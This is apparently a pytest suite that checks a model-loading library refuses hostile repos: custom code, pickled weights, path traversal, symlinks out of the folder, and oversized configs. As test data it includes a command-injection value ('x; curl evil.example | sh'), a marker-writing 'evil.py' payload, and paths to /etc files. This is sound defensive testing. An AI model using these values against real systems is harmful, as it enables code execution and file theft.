"""Loading a model is a trust boundary: a stranger's repo can make hubtl run no code, read no file outside the
repo and allocate nothing its weights file does not justify. Each test is an attack measured on hubtl 0.1."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from huggingface_hub import HfApi

import hubtl
from hubtl import Backbone, BackbonePlugin, TransferModel
from hubtl.audit import watch
from hubtl.errors import ModelLoadError
from hubtl.hub.server import running_server, use_endpoint
from hubtl.testing import check_backbone

from conftest import TINY_TIMM

TOKEN = "hub-write-token"
EVIL_PY = "import pathlib; pathlib.Path({marker!r}).write_text('pwned')\n"


@pytest.fixture(scope="module")
def text_dir(tiny_bert: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    model = TransferModel.from_backbone(tiny_bert, labels=["neg", "pos"], pretrained=False)
    return model.save_pretrained(tmp_path_factory.mktemp("text") / "model")


@pytest.fixture(scope="module")
def image_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    model = TransferModel.from_backbone(TINY_TIMM, labels=["ant", "bee"], pretrained=False)
    return model.save_pretrained(tmp_path_factory.mktemp("image") / "model")


@pytest.fixture
def text_copy(text_dir: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(text_dir, tmp_path / "text-model"))


@pytest.fixture
def image_copy(image_dir: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(image_dir, tmp_path / "image-model"))


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file outside every model directory that no load may open."""
    path = tmp_path / "outside" / "secret.txt"
    path.parent.mkdir()
    path.write_text("[PAD]\n[UNK]\nsecret\n")
    return path


def edit_json(path: Path, **changes: Any) -> None:
    content = json.loads(path.read_text())
    for dotted, value in changes.items():
        *parents, last = dotted.split("__")
        target = content
        for key in parents:
            target = target[key]
        target[last] = value
    path.write_text(json.dumps(content))


@pytest.fixture
def eve_hub(tmp_path: Path, hf_home: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[HfApi, Path]]:
    """A running local Hub (its storage root) and a client that writes to it as a stranger's repos; no stored token."""
    monkeypatch.delenv("HF_TOKEN", raising=False)
    root = tmp_path / "hub-root"
    with running_server(root, token=TOKEN) as url, use_endpoint(url):
        yield HfApi(endpoint=url, token=TOKEN), root


def downloaded(hf_home: Path) -> set[str]:
    """Names of the files the Hub client put in the cache."""
    return {p.name for p in (hf_home / "hub").rglob("*") if p.is_file() or p.is_symlink()}


def load_watched(directory: Path) -> tuple[Exception | None, list[str]]:
    """Load under the audit hook; return the error (if any) and what the load did outside the directory."""
    with watch(directory) as seen:
        try:
            TransferModel.from_pretrained(directory)
        except Exception as err:  # noqa: BLE001 - the test inspects it
            return err, seen.violations
    return None, seen.violations


# ------------------------------------------------------------------ code execution


def test_custom_code_in_the_backbone_config_is_refused_without_a_prompt(text_copy: Path, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    (text_copy / "backbone" / "evil.py").write_text(EVIL_PY.format(marker=str(marker)))
    edit_json(text_copy / "backbone" / "config.json", auto_map={"AutoModel": "evil.EvilModel", "AutoConfig": "evil.EvilConfig"})
    with pytest.raises(ModelLoadError, match=r"backbone/evil\.py is not a data file.*never loads code"):
        TransferModel.from_pretrained(text_copy)
    (text_copy / "backbone" / "evil.py").unlink()
    # stdin closed: a prompt would raise EOFError instead of the clear error
    with pytest.raises(ModelLoadError, match=r"names custom code \(auto_map"):
        TransferModel.from_pretrained(text_copy)
    assert not marker.exists()


def test_unknown_model_type_is_refused(text_copy: Path) -> None:
    edit_json(text_copy / "backbone" / "config.json", model_type="evil-bert")
    with pytest.raises(ModelLoadError, match=r"model_type 'evil-bert'.*custom code"):
        TransferModel.from_pretrained(text_copy)


def test_custom_code_by_hub_id_is_never_downloaded(eve_hub: tuple[HfApi, Path], text_dir: Path, tmp_path: Path,
                                                    hf_home: Path) -> None:  # fmt: skip
    api, _ = eve_hub
    marker = tmp_path / "pwned"
    api.create_repo("eve/evil-model")
    api.upload_folder(repo_id="eve/evil-model", folder_path=str(text_dir))
    api.upload_file(
        repo_id="eve/evil-model", path_or_fileobj=EVIL_PY.format(marker=str(marker)).encode(), path_in_repo="backbone/evil.py"
    )
    config = json.loads((text_dir / "backbone" / "config.json").read_text())
    config["auto_map"] = {"AutoModel": "evil.EvilModel"}
    api.upload_file(
        repo_id="eve/evil-model", path_or_fileobj=json.dumps(config).encode(), path_in_repo="backbone/config.json"
    )
    with pytest.raises(ModelLoadError, match=r"names custom code \(auto_map"):
        TransferModel.from_pretrained("eve/evil-model")
    assert "config.json" in downloaded(hf_home) and "evil.py" not in downloaded(hf_home)
    assert not marker.exists()


def test_a_transformers_backbone_by_hub_id_never_runs_code_nor_unpickles(
    eve_hub: tuple[HfApi, Path], tiny_bert_dir: Path, tmp_path: Path, hf_home: Path
) -> None:
    import torch
    from safetensors.torch import load_file

    api, _ = eve_hub
    marker = tmp_path / "pwned"
    for repo in ("eve/remote-code", "eve/pickled"):
        api.create_repo(repo)
        api.upload_folder(repo_id=repo, folder_path=str(tiny_bert_dir), ignore_patterns=["*.safetensors"])
    config = json.loads((tiny_bert_dir / "config.json").read_text())
    config.update(auto_map={"AutoModel": "evil.EvilModel", "AutoConfig": "evil.EvilConfig"})
    api.upload_file(repo_id="eve/remote-code", path_or_fileobj=json.dumps(config).encode(), path_in_repo="config.json")
    api.upload_file(repo_id="eve/remote-code", path_or_fileobj=EVIL_PY.format(marker=str(marker)).encode(),
                    path_in_repo="evil.py")  # fmt: skip
    weights = tmp_path / "pytorch_model.bin"
    torch.save(load_file(str(tiny_bert_dir / "model.safetensors")), weights)
    api.upload_file(repo_id="eve/pickled", path_or_fileobj=str(weights), path_in_repo="pytorch_model.bin")

    with pytest.raises(hubtl.BackboneNotFoundError, match=r"names custom code \(auto_map"):  # no prompt either
        hubtl.create_backbone("transformers:eve/remote-code")
    with pytest.raises(hubtl.BackboneNotFoundError, match=r"no safetensors weights; hubtl never unpickles"):
        hubtl.create_backbone("transformers:eve/pickled")
    assert "config.json" in downloaded(hf_home) and not downloaded(hf_home) & {"evil.py", "pytorch_model.bin"}
    assert not marker.exists()


def test_a_repo_tree_naming_a_path_outside_the_download_folder_is_a_model_load_error(
    eve_hub: tuple[HfApi, Path], image_dir: Path, tmp_path: Path
) -> None:
    api, root = eve_hub
    api.create_repo("eve/escape")
    sha = api.upload_folder(repo_id="eve/escape", folder_path=str(image_dir)).oid
    record_path = next(root.rglob(f"commits/{sha}.json"))  # a tampered store, as a compromised server serves it
    record = json.loads(record_path.read_text())
    record["tree"]["backbone/../../../escaped.json"] = record["tree"]["config.json"]  # matches backbone/*.json
    record_path.write_text(json.dumps(record))
    with pytest.raises(ModelLoadError, match=r"cannot be downloaded safely"):  # was huggingface_hub's raw ValueError
        TransferModel.from_pretrained("eve/escape")
    assert not list(tmp_path.rglob("escaped.json"))


# ------------------------------------------------------------------ reads outside the repo


def test_timm_checkpoint_path_in_the_spec_is_refused_and_never_opened(image_copy: Path, secret: Path) -> None:
    edit_json(image_copy / "config.json", backbone__kwargs={"checkpoint_path": str(secret)})
    err, violations = load_watched(image_copy)
    assert isinstance(err, ModelLoadError) and "checkpoint_path" in str(err)
    assert not any("secret.txt" in v for v in violations)


@pytest.mark.parametrize("name", ["hf-hub:eve/evil", "local-dir:/etc"])
def test_timm_names_that_fetch_configs_from_elsewhere_are_refused(image_copy: Path, name: str) -> None:
    edit_json(image_copy / "config.json", backbone__name=name)
    with pytest.raises(ModelLoadError, match="not a plain timm architecture name"):
        TransferModel.from_pretrained(image_copy)


@pytest.mark.parametrize("key", ["vocab_file", "tokenizer_file", "merges_file"])
def test_tokenizer_files_named_outside_the_repo_are_refused(text_copy: Path, secret: Path, key: str) -> None:
    (text_copy / "backbone" / "tokenizer.json").unlink()
    edit_json(text_copy / "backbone" / "tokenizer_config.json", **{key: str(secret)})
    err, violations = load_watched(text_copy)
    assert isinstance(err, ModelLoadError), err
    assert key in str(err) and "only name files inside its own folder" in str(err)
    assert not any("secret.txt" in v for v in violations)


@pytest.mark.parametrize("relative", [False, True], ids=["absolute", "relative to the working directory"])
@pytest.mark.parametrize("key", ["vocab", "merges"])
def test_tokenizer_data_given_as_a_path_is_refused(
    text_copy: Path, secret: Path, key: str, relative: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    # the tokenizers library opens a string `vocab` as a file, in native code that the audit hook does not see
    (text_copy / "backbone" / "tokenizer.json").unlink()
    monkeypatch.chdir(secret.parent.parent)
    edit_json(text_copy / "backbone" / "tokenizer_config.json", **{key: "outside/secret.txt" if relative else str(secret)})
    with pytest.raises(ModelLoadError, match=rf"sets {key} to the string .*secret\.txt.*would open as a file outside"):
        TransferModel.from_pretrained(text_copy)


def test_a_backbone_file_linking_outside_the_repo_is_refused(text_copy: Path, secret: Path) -> None:
    vocab = text_copy / "backbone" / "tokenizer.json"
    vocab.unlink()
    vocab.symlink_to(secret)
    with pytest.raises(ModelLoadError, match=r"backbone/tokenizer\.json links outside the model directory"):
        TransferModel.from_pretrained(text_copy)


@pytest.mark.parametrize("name", ["config.json", "model.safetensors"])
def test_a_model_file_linking_outside_the_folder_is_refused_before_it_is_read(
    image_copy: Path, tmp_path: Path, name: str
) -> None:
    outside = tmp_path / "elsewhere" / name  # a cloned repo keeps its links
    outside.parent.mkdir()
    (image_copy / name).rename(outside)
    (image_copy / name).symlink_to(outside)
    err, violations = load_watched(image_copy)
    assert isinstance(err, ModelLoadError) and f"{name} links outside the model directory" in str(err), err
    assert not any("elsewhere" in v for v in violations)


@pytest.mark.parametrize(
    "kwargs",
    [{"pretrained_cfg_overlay": {"file": "/etc/hostname"}}, {"cache_dir": "/tmp"}, {"drop_rate": "../../etc/hostname"}],
)
def test_spec_kwargs_that_name_paths_are_refused(image_copy: Path, kwargs: dict[str, Any]) -> None:
    edit_json(image_copy / "config.json", backbone__kwargs=kwargs)
    with pytest.raises(ModelLoadError, match=r"Backbone kwarg"):
        TransferModel.from_pretrained(image_copy)


def test_a_clean_load_reads_only_the_model_and_libraries(text_dir: Path, image_dir: Path) -> None:
    for directory in (text_dir, image_dir):
        err, violations = load_watched(directory)
        assert err is None and violations == []


def test_package_names_from_a_saved_config_are_flagged_or_left_out(image_copy: Path) -> None:
    edit_json(image_copy / "config.json", backbone__plugin="evilplug", backbone__package="x; curl evil.example | sh")
    with pytest.raises(hubtl.PluginUnavailableError) as caught:
        TransferModel.from_pretrained(image_copy)
    assert "curl" not in str(caught.value) and "install the package that provides it" in str(caught.value)
    edit_json(image_copy / "config.json", backbone__plugin="timm", backbone__package="timm-evil-fork", backbone__spec_version=99)
    with pytest.raises(ModelLoadError) as caught:  # the upgrade names the installed plugin's package, not the file's
        TransferModel.from_pretrained(image_copy)
    assert "timm-evil-fork" not in str(caught.value) and "pip install -U hubtl" in str(caught.value)


# ------------------------------------------------------------------ allocation


def test_a_huge_head_is_refused_before_anything_is_allocated(image_copy: Path) -> None:
    edit_json(image_copy / "config.json", head__num_outputs=10_000_000_000)
    with pytest.raises(ModelLoadError, match=r"does not match config\.json \(size mismatch in the head"):
        TransferModel.from_pretrained(image_copy)


def test_a_huge_backbone_config_is_refused_before_anything_is_allocated(text_copy: Path) -> None:
    edit_json(text_copy / "backbone" / "config.json", hidden_size=1_048_576, intermediate_size=1_048_576)
    edit_json(text_copy / "config.json", head__in_features=1_048_576)
    with pytest.raises(ModelLoadError, match=r"does not match config\.json"):
        TransferModel.from_pretrained(text_copy)


@pytest.fixture(scope="module")
def vit_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    model = TransferModel.from_backbone("timm:test_vit", labels=["ant", "bee"], pretrained=False)
    return model.save_pretrained(tmp_path_factory.mktemp("vit") / "model")


def test_a_huge_depth_is_refused_before_it_is_built(vit_dir: Path, tmp_path: Path) -> None:
    # measured on hubtl 0.1: depth 20,000 on a 1.2 MB file built for 222 s and took 2.1 GB before the shapes were compared
    copy = Path(shutil.copytree(vit_dir, tmp_path / "vit"))
    edit_json(copy / "config.json", backbone__kwargs={**json.loads((copy / "config.json").read_text())["backbone"]["kwargs"],
                                                      "depth": 20_000})  # fmt: skip
    with pytest.raises(ModelLoadError, match=r"describes a model far larger than its model\.safetensors"):
        TransferModel.from_pretrained(copy)


def test_a_huge_layer_count_is_refused_before_it_is_built(text_copy: Path) -> None:
    edit_json(text_copy / "backbone" / "config.json", num_hidden_layers=100_000)
    with pytest.raises(ModelLoadError, match=r"describes a model far larger than its model\.safetensors"):
        TransferModel.from_pretrained(text_copy)


def test_weights_of_another_dtype_kind_are_refused(image_copy: Path) -> None:
    weights = image_copy / "model.safetensors"  # a float tensor relabelled as int32 in the header loads as garbage
    data = weights.read_bytes()
    length = int.from_bytes(data[:8], "little")
    header = json.loads(data[8 : 8 + length])
    first = next(k for k, v in header.items() if k != "__metadata__" and v["dtype"] == "F32")
    header[first]["dtype"] = "I32"
    raw = json.dumps(header).encode().ljust(length)
    weights.write_bytes(len(raw).to_bytes(8, "little") + raw + data[8 + length :])
    with pytest.raises(ModelLoadError, match=rf"another kind of dtype .*{first}: the file has torch\.int32"):
        TransferModel.from_pretrained(image_copy)


def test_weights_that_a_header_lies_about_are_refused(image_copy: Path) -> None:
    weights = image_copy / "model.safetensors"
    data = weights.read_bytes()
    length = int.from_bytes(data[:8], "little")
    header = json.loads(data[8 : 8 + length])
    first = next(k for k in header if k != "__metadata__")
    header[first]["shape"] = [10_000_000, 10_000_000]
    raw = json.dumps(header).encode()
    weights.write_bytes(len(raw).to_bytes(8, "little") + raw + data[8 + length :])
    with pytest.raises(ModelLoadError, match=r"is corrupt"):
        TransferModel.from_pretrained(image_copy)


# ------------------------------------------------------------------ bad values are ModelLoadErrors naming the key


@pytest.mark.parametrize(
    ("change", "pattern"),
    [
        ({"format_version": "abc"}, r"`format_version`: input should be a valid integer"),
        ({"backbone__spec_version": "2"}, r"`backbone\.spec_version`: input should be a valid integer"),
        ({"backbone__kwargs": [1, 2]}, r"`backbone\.kwargs`: input should be a valid dictionary"),
        ({"head__dropout": "high"}, r"`head\.dropout`: input should be a valid number"),
        ({"id2label": ["a", "b"]}, r"`id2label`: input should be a valid dictionary"),
        ({"backbone__data_config__mean": "x"}, r"mean must be a list of one number per channel, got 'x'"),
        ({"backbone__data_config__input_size": [3, 10**9, 10**9]}, r"input_size must be"),
        ({"backbone__data_config__crop_pct": 0.002}, r"crop_pct 0\.002 resizes images to \d+ px before cropping"),
        ({"backbone__kwargs": {"act_layer": "os.system"}}, r"cannot be built with backbone_kwargs.*os\.system.*check the options"),
    ],
)
def test_bad_config_values_are_model_load_errors(image_copy: Path, change: dict[str, Any], pattern: str) -> None:
    edit_json(image_copy / "config.json", **change)
    with pytest.raises(ModelLoadError, match=pattern):
        TransferModel.from_pretrained(image_copy)


@pytest.mark.parametrize(
    ("value", "pattern"),
    [("[" * 500 + "1" + "]" * 500, r"nests values more than 32 levels deep"),
     ("[" * 5000 + "1" + "]" * 5000, r"not valid JSON|nests values more than 32 levels deep"),  # by recursion limit
     ("9" * 5000, r"not valid JSON \(a number too long to read\)")],
    ids=["nested", "nested past the parser", "long number"],
)
def test_a_config_built_to_exhaust_its_reader_is_a_model_load_error(image_copy: Path, value: str, pattern: str) -> None:
    config = json.loads((image_copy / "config.json").read_text())  # each was a raw RecursionError or ValueError
    config["backbone"]["kwargs"]["drop_rate"] = "VALUE"
    (image_copy / "config.json").write_text(json.dumps(config).replace('"VALUE"', value))
    with pytest.raises(ModelLoadError, match=pattern):
        TransferModel.from_pretrained(image_copy)


def test_a_huge_max_length_is_refused(text_copy: Path) -> None:
    edit_json(text_copy / "config.json", backbone__kwargs={"pooling": "mean", "max_length": 10**12})
    with pytest.raises(ModelLoadError, match=r"max_length must be an int"):
        TransferModel.from_pretrained(text_copy)


def test_training_with_a_kwarg_loading_would_refuse_fails_at_once() -> None:
    with pytest.raises(hubtl.ConfigError, match=r"rejected backbone_kwargs \{'pretrained_cfg_overlay'"):
        TransferModel.from_backbone(TINY_TIMM, labels=["a", "b"], pretrained=False, pretrained_cfg_overlay={"x": 1})


# ------------------------------------------------------------------ the conformance kit's load-safety check


class _Tiny(Backbone):
    modality = "text"
    feature_dim = 4

    def __init__(self, plugin: str, extra: dict[str, Any] | None = None) -> None:
        super().__init__()
        self.plugin, self.extra = plugin, extra or {}
        self.embedding = __import__("torch").nn.EmbeddingBag(64, 4)

    def forward(self, batch):
        return self.embedding(batch["ids"], batch["offsets"])

    def preprocessor(self, train: bool = False):
        raise NotImplementedError("the load_safety check never preprocesses")

    def layer_groups(self):
        return [list(self.parameters())]

    def spec(self) -> dict[str, Any]:
        return {"plugin": self.plugin, "name": "tiny", "kwargs": {}, **self.extra}

    def save_files(self, directory: Path) -> None:
        directory.mkdir(parents=True, exist_ok=True)
        (directory / "vocab.txt").write_text("a\nb\n")


def _plugin(name: str, from_spec) -> BackbonePlugin:
    cls = type(
        f"{name.title()}Plugin",
        (BackbonePlugin,),
        {
            "name": name,
            "modality": "text",
            "create": lambda self, model_name, pretrained=True, **kw: self.make(),
            "from_spec": from_spec,
            "list_models": lambda self, pattern=None: ["tiny"],
        },
    )
    return cls()


def _run_load_safety(plugin: BackbonePlugin, extra: dict[str, Any] | None = None) -> Any:
    plugin.make = lambda: _Tiny(plugin.name, extra)
    return check_backbone(plugin, "tiny", checks=["load_safety"], raise_on_failure=False, examples=["a"])


def test_kit_passes_a_plugin_that_reads_only_its_files() -> None:
    def from_spec(self, spec, files_dir):
        (Path(files_dir) / "vocab.txt").read_text()
        return _Tiny(self.name)

    report = _run_load_safety(_plugin("tidy", from_spec))
    assert report["load_safety"].status == "pass", report.summary()


def test_kit_fails_a_plugin_that_opens_a_path_taken_from_the_spec(secret: Path) -> None:
    def from_spec(self, spec, files_dir):
        Path(spec["vocab_path"]).read_text()
        return _Tiny(self.name, {"vocab_path": spec["vocab_path"]})

    report = _run_load_safety(_plugin("leaky", from_spec), {"vocab_path": str(secret)})
    result = report["load_safety"]
    assert result.status == "fail"
    assert f"opened {secret}" in result.message and "never a path taken from the spec" in result.message


def test_kit_fails_a_plugin_that_starts_a_process() -> None:
    def from_spec(self, spec, files_dir):
        subprocess.run([sys.executable, "-c", "pass"], check=True)
        return _Tiny(self.name)

    result = _run_load_safety(_plugin("spawner", from_spec))["load_safety"]
    assert result.status == "fail" and "started a process (subprocess.Popen" in result.message


def test_kit_fails_a_plugin_that_runs_code_from_the_model_directory() -> None:
    def from_spec(self, spec, files_dir):
        script = Path(files_dir) / "vocab.txt"
        exec(compile("x = 1", str(script), "exec"), {})  # code "from" a file of the model directory
        return _Tiny(self.name)

    result = _run_load_safety(_plugin("runner", from_spec))["load_safety"]
    assert result.status == "fail" and "compiled code from" in result.message and "vocab.txt" in result.message


def test_kit_fails_a_plugin_whose_files_loading_would_refuse() -> None:
    def from_spec(self, spec, files_dir):
        return _Tiny(self.name)

    plugin = _plugin("pickler", from_spec)
    plugin.make = lambda: _Pickler(plugin.name)
    result = check_backbone(plugin, "tiny", checks=["load_safety"], raise_on_failure=False, examples=["a"])["load_safety"]
    assert result.status == "fail" and "weights.pkl is not a data file" in result.message


class _Pickler(_Tiny):
    def save_files(self, directory: Path) -> None:
        directory.mkdir(parents=True, exist_ok=True)
        (directory / "weights.pkl").write_bytes(b"\x80\x04N.")


def test_cli_check_includes_load_safety() -> None:
    out = subprocess.run(
        [sys.executable, "-m", "hubtl.cli", "backbones", "check", TINY_TIMM],
        capture_output=True, text=True, env={**os.environ, "HF_HUB_OFFLINE": "1"},
    )  # fmt: skip
    assert out.returncode == 0, out.stderr
    assert "PASS  load_safety" in out.stdout
